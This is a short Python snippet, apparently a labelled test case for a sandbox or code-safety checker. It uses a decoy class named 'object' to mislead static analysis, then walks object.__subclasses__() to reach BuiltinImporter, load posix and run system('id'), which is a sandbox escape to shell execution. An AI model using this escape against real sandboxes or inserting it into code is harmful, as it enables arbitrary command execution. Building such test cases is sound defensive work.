# HARM: shell via BuiltinImporter | TRICK: class named `object` defined only inside a never-called function; module-level `object` is still builtins.object
def _never():
    class object: pass
    return object
for k in object.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
